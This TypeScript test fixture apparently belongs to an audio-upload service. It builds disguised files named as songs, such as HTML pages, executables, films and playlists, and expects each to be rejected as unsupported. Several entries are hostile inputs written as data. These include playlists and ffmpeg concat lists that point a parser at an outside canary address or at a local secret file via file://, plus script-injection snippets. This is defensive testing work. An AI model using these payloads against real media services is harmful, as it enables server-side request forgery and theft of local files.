import { box } from './boxes.ts';
import { type HostileSound, refusedSounds } from './hostile-sound.ts';
import { encoded, film, sound } from './sounds.ts';

const text = (content: string) => () => Buffer.from(content.padEnd(4_000));
const bytes = (head: string, length = 4_000) => {
  const file = Buffer.alloc(length);
  file.write(head, 'latin1');
  return () => file;
};
const tone = ['-f', 'lavfi', '-i', 'sine=duration=2'];
const picture = ['-f', 'lavfi', '-i', 'color=c=red:s=64x64:d=2'];
const made =
  (name: string, ...output: string[]) =>
  (folder: string) =>
    encoded(folder, name, [...tone, ...output]);
const filmed =
  (name: string, ...output: string[]) =>
  (folder: string) =>
    encoded(folder, name, [...tone, ...picture, ...output]);

/**
 * Text, programs, films and playlists named as songs, and audio of unsupported kinds.
 * @param canary an address that must not be contacted
 * @param secretFile a file on this machine whose text must not leak
 */
export const disguisedSounds = (canary: string, secretFile: string): HostileSound[] =>
  refusedSounds('file_unsupported', {
    'a letter called song.mp3': text('Dear curator, this is not a song. '.repeat(99)),
    'a page called song.mp3': text('<!doctype html><script>fetch("/api/account")</script>'),
    'a script called song.mp3': text('alert(document.domain)'),
    'a picture called song.mp3': bytes('\u0089PNG\r\n\u001a\n\0\0\0\rIHDR\0\0\0\u0001\0\0\0\u0001\b'),
    'a PDF called song.mp3': bytes('%PDF-1.7\n'),
    'a ZIP called song.mp3': bytes('PK\u0003\u0004\u0014\0'),
    'a Windows program called song.mp3': bytes('MZ\u0090\0\u0003'),
    'a Linux program called song.mp3': bytes('\u007fELF\u0002\u0001\u0001'),
    'noise called song.mp3': () => Buffer.alloc(9_000, 0x5a),
    'zeros called song.wav': () => Buffer.alloc(9_000),
    'a playlist of a file on the machine': text(`#EXTM3U\n#EXTINF:5,\nfile://${secretFile}\n`),
    'a playlist of an address': text(
      `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:5,\n${canary}/song.ts\n#EXT-X-ENDLIST\n`,
    ),
    'a playlist that puts a file behind an address': text(
      `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:5,\nconcat:${canary}/?|file://${secretFile}\n#EXT-X-ENDLIST\n`,
    ),
    'a playlist behind an empty ID3 tag': () =>
      Buffer.from(`ID3\u0004\0\0\0\0\0\0#EXTM3U\n#EXTINF:5,\n${canary}/song.ts\n`.padEnd(4_000), 'latin1'),
    'a playlist of the nineties': text(`[playlist]\nFile1=${canary}/song.mp3\nNumberOfEntries=1\n`),
    'a playlist in XML': text(
      `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><location>${canary}/x</location></playlist>`,
    ),
    'a list of parts': text(`ffconcat version 1.0\nfile ${secretFile}\nfile ${canary}/song.mp3\n`),
    'a manifest of a stream': text(`<?xml version="1.0"?><MPD><BaseURL>${canary}/</BaseURL></MPD>`),
    'the description of a session': text(
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n`,
    ),
    'a song list of a CD': text(`FILE "${secretFile}" WAVE\n  TRACK 01 AUDIO\n`),
    'tags of ffmpeg that are a file': text(`;FFMETADATA1\ntitle=${canary}\n`),
    'a film called song.m4a': (folder) => film(folder),
    'a film that calls itself M4A inside': async (folder) => {
      const file = Buffer.from(await film(folder));
      file.write('M4A ', 8, 'latin1');
      return file;
    },
    'a Matroska film': filmed('film.mkv', '-c:v', 'mpeg4', '-c:a', 'libmp3lame'),
    'a Matroska song': made('song.mka', '-c:a', 'libmp3lame'),
    'a WebM film': filmed('film.webm', '-c:v', 'libvpx', '-c:a', 'libvorbis'),
    'an AVI film': filmed('film.avi', '-c:v', 'mpeg4', '-c:a', 'libmp3lame'),
    'a Flash film': filmed('film.flv', '-c:v', 'flv1', '-c:a', 'libmp3lame', '-ar', '44100'),
    'a transport stream': filmed('film.ts', '-c:v', 'mpeg2video', '-c:a', 'mp2'),
    'an MPEG film': filmed('film.mpg', '-c:v', 'mpeg1video', '-r', '25', '-c:a', 'mp2'),
    'a QuickTime film': filmed('film.mov', '-c:v', 'mpeg4', '-c:a', 'aac'),
    'a film in Ogg': filmed('film.ogv', '-c:v', 'libtheora', '-c:a', 'libvorbis'),
    'a film in Ogg whose sound comes first': filmed(
      'film.ogg',
      '-map',
      '0:a',
      '-map',
      '1:v',
      '-c:a',
      'libvorbis',
      '-c:v',
      'libtheora',
    ),
    'a Windows Media song': made('song.wma', '-c:a', 'wmav2'),
    'an AIFF': made('song.aiff'),
    'an AU': made('song.au'),
    'a CAF': made('song.caf', '-c:a', 'pcm_s16le'),
    'a raw AAC stream': made('song.aac', '-c:a', 'aac'),
    'an AC-3': made('song.ac3', '-c:a', 'ac3'),
    'a WavPack': made('song.wv', '-c:a', 'wavpack'),
    'an RF64': made('song.rf64.wav', '-rf64', 'always', '-f', 'wav'),
    'a MIDI file': bytes('MThd\0\0\0\u0006\0\0\0\u0001\0`MTrk\0\0\0\u0004\0\u00ff/\0'),
    'a tracker module': bytes('Extended Module: fanfare            \u001a'),
    'a page before a song': async (folder) =>
      Buffer.concat([Buffer.from('<script>alert(1)</script>'), await sound(folder, 'mp3', 2)]),
    'an M4A that is locked to a shop': async (folder) => locked(await sound(folder, 'm4a', 2), 'drms'),
    'an M4A that is encrypted': async (folder) => locked(await sound(folder, 'm4a', 2), 'enca'),
    'an M4A that only says so': () =>
      Buffer.concat([box('ftyp', 'M4A \0\0\0\0M4A '), box('moov', box('mvhd', Buffer.alloc(100)))]),
  });

function locked(file: Buffer, name: string): Buffer {
  const changed = Buffer.from(file);
  changed.write(name, changed.indexOf('stsd', 0, 'latin1') + 16, 'latin1');
  return changed;
}
